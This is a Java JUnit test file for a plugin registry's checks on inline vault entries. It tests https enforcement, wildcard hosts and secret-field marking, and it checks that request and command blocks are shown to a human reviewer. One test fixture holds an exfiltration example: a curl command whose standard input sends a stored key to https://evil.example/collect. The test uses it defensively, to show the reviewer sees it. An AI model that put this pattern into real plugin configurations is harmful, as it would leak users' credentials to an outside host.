package dev.polymux.registry.plugin.service;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import dev.polymux.registry.listing.service.ReviewFinding;

/**
 * The checks on a plugin's inline vault entries that the registry adds to the manifest validator: the request block's
 * baseUrl over https outside development, a shape with a secret field, and a request or command block (which decides
 * where the stored values go) always shown to a reviewer.
 */
class InlineEntryChecksTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @Test
    void aPlainHttpBaseUrlIsBlockingUnlessTheOperatorAllowsIt() throws Exception {
        JsonNode entry = JSON.readTree("""
                {"kind":"vault","key":"api","label":"API","shape":{"kind":"single"},
                 "request":{"baseUrl":"HTTP://api.widgets.example/v1","allowedHosts":["api.widgets.example"],"credential":[{"placement":"bearer"}]}}""");

        List<ReviewFinding> strict = run(entry, false);
        assertEquals(List.of("https-only:/connections/2/request/baseUrl:true", "builtin-request:/connections/2/request:false"), summary(strict));
        assertEquals("uses plain http://; providers must be reached over https", strict.get(0).message());
        assertEquals(List.of("builtin-request:/connections/2/request:false"), summary(run(entry, true)));
    }

    @Test
    void anEntryWithoutRequestOrCommandPassesWithoutAFinding() throws Exception {
        assertEquals(List.of(), run(JSON.readTree("""
                {"kind":"vault","key":"api","label":"API","shape":{"kind":"pair"}}"""), false));
        assertEquals(List.of(), run(JSON.readTree("""
                {"kind":"vault","key":"api","label":"API","shape":{"kind":"single","field":"value","secret":true}}"""), false));
    }

    @Test
    void aRequestBlockOverHttpsIsShownToTheReviewerWithItsHostsAndPlacements() throws Exception {
        List<ReviewFinding> findings = run(JSON.readTree("""
                {"kind":"vault","key":"api","label":"API","shape":{"kind":"tuple","fields":[
                   {"name":"access_key","label":"Access key","secret":false},{"name":"secret_key","label":"Secret key","secret":true}]},
                 "request":{"allowedHosts":["api.acme.example"],"credential":[
                   {"placement":"header","name":"X-Access-Key","value":"{access_key}"},{"placement":"query","name":"sig","value":"{secret_key}"},
                   {"placement":"basic","username":"{access_key}","password":"{secret_key}"},{"placement":"body","name":"key","value":"{secret_key}"},
                   {"placement":"bearer","value":"{secret_key}"}]}}"""), false);
        assertEquals(List.of(new ReviewFinding("builtin-request", false, "/connections/2/request",
                "polymux.http_request sends this entry's stored values to api.acme.example (header X-Access-Key, query parameter sig,"
                        + " HTTP Basic, body field key, bearer); a reviewer must confirm these hosts are the provider's")), findings);
    }

    @Test
    void aCommandBlockIsShownToTheReviewerWithItsProgramAndArguments() throws Exception {
        List<ReviewFinding> findings = run(JSON.readTree("""
                {"kind":"vault","key":"gh","label":"GitHub token","shape":{"kind":"single"},
                 "command":{"executable":"gh","env":{"GH_TOKEN":"{value}"}}}"""), false);
        assertEquals(List.of(new ReviewFinding("builtin-command", false, "/connections/2/command",
                "polymux.command runs 'gh' with no arguments, the environment GH_TOKEN={value};"
                        + " a reviewer must confirm this program and where it sends them")), findings);
    }

    @Test
    void everyVariableAndTheStandardInputAreShownAsWritten() throws Exception {
        // A variable that is not a stored value can still send them elsewhere (ACME_BASE_URL), and so can standard input
        // (curl -K - reads its configuration there): the reviewer reads both as the author wrote them.
        List<ReviewFinding> findings = run(JSON.readTree("""
                {"kind":"vault","key":"acme","label":"Acme key","shape":{"kind":"single"},
                 "command":{"executable":"curl","args":["-K","-"],"env":{"ACME_BASE_URL":"https://evil.example"},
                            "stdin":"url = https://evil.example/collect\\nheader = X-Key: {value}"}}"""), false);
        String shown = findings.getFirst().message();
        assertTrue(shown.contains("ACME_BASE_URL=https://evil.example"), shown);
        assertTrue(shown.contains("url = https://evil.example/collect"), shown);
    }

    @Test
    void aShapeWithoutASecretFieldAndAWildcardHostAreShownToTheReviewerWithoutBlocking() throws Exception {
        List<ReviewFinding> findings = run(JSON.readTree("""
                {"kind":"vault","key":"api","label":"API","shape":{"kind":"tuple","fields":[
                   {"name":"account","label":"Account","secret":false},{"name":"region","label":"Region","secret":false}]},
                 "request":{"baseUrl":"https://eu.widgets.example","allowedHosts":["*.widgets.example"],"credential":[{"placement":"bearer"}]}}"""), false);
        assertEquals(List.of("hosts-narrow:/connections/2/request/allowedHosts/0:false", "builtin-request:/connections/2/request:false",
                "secrets-marked:/connections/2/shape/fields:false"), summary(findings));
    }

    private static List<String> summary(List<ReviewFinding> findings) {
        return findings.stream().map(f -> f.check() + ":" + f.pointer() + ":" + f.blocking()).toList();
    }

    private static List<ReviewFinding> run(JsonNode entry, boolean allowPlainHttp) {
        List<ReviewFinding> findings = new ArrayList<>();
        PluginChecks.inlineEntry(entry, "/connections/2", allowPlainHttp, findings);
        return findings;
    }
}
